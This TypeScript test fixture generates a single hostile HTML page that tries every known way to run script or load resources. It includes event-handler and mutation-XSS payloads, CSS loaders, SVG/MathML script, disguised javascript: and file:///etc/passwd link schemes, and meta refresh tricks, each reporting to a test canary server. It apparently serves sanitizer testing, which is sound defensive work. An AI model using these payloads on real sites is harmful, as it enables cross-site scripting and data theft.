/**
 * One page with every known way for markup to run script, load something, or lead the reader away. Each asks a canary, a
 * server of the test, for a path of its own, so that what works is known by name.
 */

/** Names of hosts there are not: where one appears, it was looked up. A browser that is driven by a test does only the first. */
export const LOOKUPS: readonly string[] = [
  'image.canary.test',
  'dns-prefetch.canary.test',
  'preconnect.canary.test',
];

/** The page as bytes in UTF-8; `canary` is an origin. Its text says "harmless words" at both ends. */
export function hostilePage(canary: string): string {
  // Without quotes and spaces, so that it is whole in every kind of attribute.
  const run = (name: string): string => `fetch(\`${canary}/run/${name}\`,{mode:\`no-cors\`})`;
  const load = (name: string): string => `${canary}/load/${name}`;
  return `<?xml version="1.0"?><?xml-stylesheet href="${load('xml-stylesheet')}"?>
<!DOCTYPE html><html onclick="${run('html-click')}" manifest="${load('manifest')}"><head>
<title>harmless words &lt;/title&gt;&lt;script&gt;${run('title')}&lt;/script&gt;&lt;img src=x onerror=${run('title-img')}&gt;</title>
<meta name="description" content="&quot;&gt;&lt;script&gt;${run('description')}&lt;/script&gt;">
${head(load, run)}
</head><body onload="${run('load')}" onpageshow="${run('pageshow')}" onresize="${run('resize')}" background="${load('body-background')}">
<p>harmless words at the beginning &lt;img src=x onerror=${run('text')}&gt; and more of them, so that this is a page.</p>
${handlers(run)}
${embedded(load, run)}
${foreign(load, run)}
${mutations(run)}
${links(load, run)}
<p>harmless words at the end</p>
<plaintext><script>${run('plaintext')}</script><img src="${load('plaintext')}" onerror="${run('unfinished')}" `;
}

type Call = (name: string) => string;

function head(load: Call, run: Call): string {
  const rels =
    'stylesheet prefetch prerender modulepreload icon apple-touch-icon manifest import next shortcut pingback';
  const preloads = 'image script style font fetch track document audio';
  return `
<base href="${load('base/')}" target="_top">
<meta http-equiv="refresh" content="0;url=javascript:${run('refresh')}">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>${run('refresh-data')}</script>">
<meta http-equiv="refresh" content="0;url=${load('refresh')}">
<meta http-equiv="set-cookie" content="owned=1"><meta http-equiv="Content-Security-Policy" content="script-src *">
<meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="origin-trial" content="x">
<link rel="dns-prefetch" href="//${LOOKUPS[1]}"><link rel="preconnect" href="http://${LOOKUPS[2]}">
${rels
  .split(' ')
  .map((rel) => `<link rel="${rel}" href="${load(`link-${rel}`)}">`)
  .join('')}
${preloads
  .split(' ')
  .map((as) => `<link rel="preload" as="${as}" href="${load(`preload-${as}`)}">`)
  .join('')}
<link rel="alternate stylesheet" href="${load('alternate')}"><link rel=stylesheet href="data:text/css,@import '${load('data-css')}'">
<script type="speculationrules">{"prefetch":[{"urls":["${load('speculation')}"],"eagerness":"immediate"}]}</script>
<script>${run('inline')}; document.title = 'owned'; alert('owned')</script><SCRIPT SRC="${load('script')}"></SCRIPT >
<script type="module">${run('module')}</script><script type="module" src="${load('module')}"></script><script nomodule src="${load('nomodule')}"></script>
<script async defer src="${load('async')}"></script><script type="importmap">{"imports":{"x":"${load('importmap')}"}}</script>
<script src="data:text/javascript,${encodeURIComponent(run('data-script'))}"></script>
<style>@import "${load('import')}"; @import url(${load('import-url')}); @\\69mport "${load('import-escaped')}";
@font-face { font-family: hostile; src: url(${load('font')}) } @font-face { font-family: b; src: u\\72l('${load('font-escaped')}') }
@namespace url(${load('namespace')}); @media all { @import "${load('import-media')}"; }
body { font-family: hostile, b; background: url( "${load('background')}" ), u\\r\\l(${load('background-escaped')}); cursor: url(${load('cursor')}), auto }
p { background-image: image-set("${load('image-set')}" 1x); list-style-image: URL(${load('list-style')}) }
p::before { content: url(${load('content')}) } div { mask: url(${load('mask')}#m); filter: url(${load('filter')}#f); clip-path: url(${load('clip')}#c) }
p::after { content: ''; background: -webkit-image-set(url(${load('webkit-image-set')}) 1x) } li { background: \\000075rl(${load('background-hex')}) }
:root { --late: url(${load('variable')}) } section { background: var(--late); border-image: url(${load('border-image')}) 1 }
a:not(:visited) { background: url(${load('not-visited')}) } span[title^="s"] { background: url(${load('attribute-leak')}) }
div { width: expression(${run('expression')}); behavior: url(${load('behavior')}); -moz-binding: url(${load('binding')}) }
@property --p { syntax: '<url>'; inherits: true; initial-value: url(${load('property')}) }
</style><style></style/><script>${run('style-end')}</script>`;
}

function handlers(run: Call): string {
  const shown =
    'animationstart animationend animationiteration transitionrun focus pointerrawupdate scroll wheel beforetoggle';
  return `
<style>@keyframes move { from { opacity: 0.5 } to { opacity: 1 } } .moves { animation: move 10ms }</style>
${shown
  .split(' ')
  .map((name) => `<b class="moves" tabindex=0 on${name}="${run(name)}">moving</b>`)
  .join('')}
<img src=x onerror="${run('error')}"><img src=x:x onerror=${run('error-bare')}><img/src=x/onerror=${run('error-slash')}>
<img src=x ONERROR\n=\n'${run('error-lines')}'><img src=x on\0error=${run('error-nul')}><img src="x\`><script>${run('backtick')}</script>">
<img src='x' onerror\f=${run('error-formfeed')}><img title="<img src=x onerror=${run('in-title')}>"><img """><script>${run('quotes')}</script>">
<input autofocus onfocus="${run('autofocus')}"><textarea autofocus onfocus="${run('textarea-focus')}"></textarea>
<select autofocus onfocus="${run('select-focus')}"></select><details open ontoggle="${run('toggle')}"><summary>x</summary></details>
<div popover id=pop onbeforetoggle="${run('popover')}">x</div><dialog open onclose="${run('dialog')}"></dialog>
<marquee onstart="${run('marquee')}" loop=1 width=0>x</marquee><video onloadstart="${run('loadstart')}"><source onerror="${run('source-error')}"></video>
<audio src=x onerror="${run('audio-error')}"></audio><body onhashchange="${run('second-body')}" onload="${run('second-load')}">
<style onload="${run('style-load')}"></style><link rel=stylesheet href="data:text/css," onload="${run('link-load')}">
<iframe onload="${run('iframe-load')}"></iframe><object onerror="${run('object-error')}" data=x></object><embed onload="${run('embed-load')}" src=x>
<div oncontentvisibilityautostatechange="${run('visibility')}" style="display:block;content-visibility:auto">x</div>`;
}

function embedded(load: Call, run: Call): string {
  const script = `<script>${run('NAME')}</script>`;
  const inside = (name: string): string => script.replace('NAME', name);
  return `
<img src="${load('img')}"><img srcset="${load('srcset')} 1x, ${load('srcset-2')} 2x"><img lowsrc="${load('lowsrc')}" dynsrc="${load('dynsrc')}">
<picture><source srcset="${load('picture')}"><img></picture><image src="${load('image')}"><img src="${load('lazy')}" loading=lazy>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run('svg-data')}'><image href='${load('svg-data')}'/></svg>">
<img src="//${LOOKUPS[0]}/"><img attributionsrc="${load('attribution')}"><img src="//${canaryHost(load)}/load/protocol-relative"><img src="\\\\${canaryHost(load)}\\load\\backslash">
<iframe src="${load('iframe')}"></iframe><iframe srcdoc="${inside('srcdoc').replaceAll('"', '&quot;')}<img src='${load('srcdoc')}'>"></iframe>
<iframe src="javascript:${run('iframe-script')}"></iframe><iframe src="data:text/html,${encodeURIComponent(inside('iframe-data'))}"></iframe>
<iframe src="view-source:${load('view-source')}"></iframe><portal src="${load('portal')}"></portal><fencedframe src="${load('fenced')}"></fencedframe>
<object data="${load('object')}"></object><object data="data:text/html,${encodeURIComponent(inside('object-data'))}"></object>
<object type="text/html"><param name=src value="${load('param')}"></object><embed src="${load('embed')}"><embed src="javascript:${run('embed')}">
<applet code=x archive="${load('applet')}"></applet><bgsound src="${load('bgsound')}"><layer src="${load('layer')}"></layer>
<video src="${load('video')}" poster="${load('poster')}" autoplay muted><track default src="${load('track')}"></video><audio src="${load('audio')}" autoplay></audio>
<table background="${load('table')}"><tr background="${load('tr')}"><td background="${load('td')}">cell</td></tr></table>
<input type=image src="${load('input-image')}"><form id=f action="${load('form')}"><input name=a value=b></form><button form=f formaction="${load('formaction')}">Send</button>
<form action="javascript:${run('form')}"><input type=submit></form><isindex action="javascript:${run('isindex')}" type=image>
<div style="background:url(${load('style-attribute')})">x</div><div style='background:\\75 rl("${load('style-escaped')}")'>x</div>
<div style="background-image:image-set('${load('style-image-set')}' 1x)">x</div><b style="content:&#117;rl(${load('style-entity')})">x</b>
<template><img src="${load('template')}">${inside('template')}</template>
<div><template shadowrootmode=open><img src="${load('shadow')}">${inside('shadow')}<style>@import "${load('shadow-css')}"</style></template></div>
<noscript><img src="${load('noscript')}"></noscript><noembed><img src="${load('noembed')}"></noembed><noframes><img src="${load('noframes')}"></noframes>`;
}

/** Host and port of the canary, for URLs without a scheme. */
function canaryHost(load: Call): string {
  return new URL(load('x')).host;
}

function foreign(load: Call, run: Call): string {
  return `
<svg onload="${run('svg')}"><script>${run('svg-script')}</script><script href="${load('svg-script')}"/><script xlink:href="${load('svg-xlink')}"></script>
<image href="${load('svg-image')}"/><image xlink:href="${load('svg-image-xlink')}"/><use href="${load('use')}#x"/><feImage href="${load('feimage')}"/>
<style>@import "${load('svg-import')}"; svg { background: url(${load('svg-css')}) }</style><rect fill="url(${load('fill')}#f)" width=9 height=9 />
<filter id=fi><feImage xlink:href="${load('filter-image')}"/></filter><rect filter="url(#fi)" width=9 height=9 />
<animate onbegin="${run('begin')}" attributeName=x dur=1s /><set attributeName=href to="javascript:${run('set')}"/>
<a xlink:href="javascript:${run('svg-link')}"><text y=20>click</text></a><handler>${run('handler')}</handler>
<foreignObject><iframe src="${load('svg-frame')}"></iframe><img src=x onerror="${run('foreign-object')}"></foreignObject>
<discard onbegin="${run('discard')}"/><title><img src=x onerror="${run('svg-title')}"></title><desc><script>${run('svg-desc')}</script></desc></svg>
<math href="javascript:${run('math')}"><mi>x</mi><maction actiontype="statusline#${load('maction')}">x</maction>
<mglyph src="${load('mglyph')}"></mglyph><annotation-xml encoding="text/html"><img src=x onerror="${run('annotation')}"></annotation-xml>
<semantics><annotation src="${load('annotation')}">x</annotation></semantics></math>`;
}

/** Markup that a sanitizer and a browser may read differently. */
function mutations(run: Call): string {
  const img = (name: string): string => `<img src=x onerror=${run(name)}>`;
  return `
<math><mtext><table><mglyph><style><!--</style>${img('mglyph')}--></style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math>${img('nested-form')}</style></mglyph></form></mtext></math>
<svg></p><style><a id="</style>${img('svg-style')}"></a></style></svg><svg><style>${img('svg-style-text')}</style></svg>
<math><annotation-xml encoding="text/html"><style></math>${img('annotation-style')}</style></annotation-xml></math>
<noscript><p title="</noscript>${img('noscript')}"></p></noscript><noembed><p title="</noembed>${img('noembed')}"></noembed>
<noframes><p title="</noframes>${img('noframes')}"></noframes><xmp><p title="</xmp>${img('xmp')}"></xmp>
<textarea><p title="</textarea>${img('textarea')}"></textarea><title><p title="</title>${img('inner-title')}"></title>
<iframe><p title="</iframe>${img('iframe-text')}"></iframe><template><p title="</template>${img('template-text')}"></template>
<select><style></select>${img('select')}</style></select><select><iframe>${img('select-frame')}</iframe></select>
<select><template><style><!--</style><a rel="--></style></template></select>${img('select-template')}"></a></template></select>
<!--><img src=x onerror=${run('comment-1')}>--><!---><img src=x onerror=${run('comment-2')}>--><!-- --!><img src=x onerror=${run('comment-3')}>-->
<![CDATA[<img src=x onerror=${run('cdata')}>]]><svg><![CDATA[></svg>${img('svg-cdata')}]]></svg><! ${img('bogus')}><? ${img('processing')} ?></${img('end')}>
<scr<script>ipt>${run('split')}</scr</script>ipt><scr\0ipt>${run('nul')}</scr\0ipt><<script>${run('double')}//<</script>
<a title="&quot;><img src=x onerror=${run('attribute')}>">x</a><a title='"><img src=x onerror=${run('attribute-quote')}>'>x</a>
<p id="a\u2028" class="&#34; onclick=${run('entity')}">x</p>+ADw-script+AD4-${run('utf7')}+ADw-/script+AD4-
<x-evil is=x onfocus=${run('custom')} tabindex=1 autofocus>x</x-evil><b <script>${run('in-tag')}</script>>x</b>
<table><td><svg><desc><td></desc><style><b title="</style>${img('table-svg')}"></svg></table><br/<img src=x onerror=${run('br')}>
%3Cimg src=x onerror=${run('percent')}%3E \u00bcscript\u00be${run('legacy')}\u00bc/script\u00be <\u0130mg src=x onerror=${run('dotted')}>`;
}

function links(load: Call, run: Call): string {
  const disguises = [
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    'java\tscript:',
    'java&#10;script:',
    'java&NewLine;script&colon;',
    '&#x6a;avascript:',
    '\u0001javascript:',
    '&#14;javascript:',
    'javascript://%0a',
    'javascript&colon;',
    'vbscript:',
    'livescript:',
    'data:text/html,',
    'data:text/html;base64,PHNjcmlwdD4=',
    'blob:null/',
    'filesystem:',
    'view-source:javascript:',
    'feed:javascript:',
    'jar:',
    'file:///etc/passwd#',
    'intent://x#',
    'ms-windows-store:',
    'about:blank#',
    'http://[javascript:',
    '//javascript:',
  ];
  return `<a href="${load('link')}" ping="${load('ping')}" target="_self" attributionsrc="${load('link-attribution')}" download>an honest link</a>
${disguises.map((scheme, n) => `<a href="${scheme}${run(`link-${n}`)}" autofocus>disguise ${n}</a>`).join('\n')}
<map name=m><area href="javascript:${run('area')}" ping="${load('area-ping')}" shape=default></map><img usemap="#m">
<a href="#top" onclick="${run('click')}" formaction="javascript:${run('link-formaction')}">top</a>`;
}
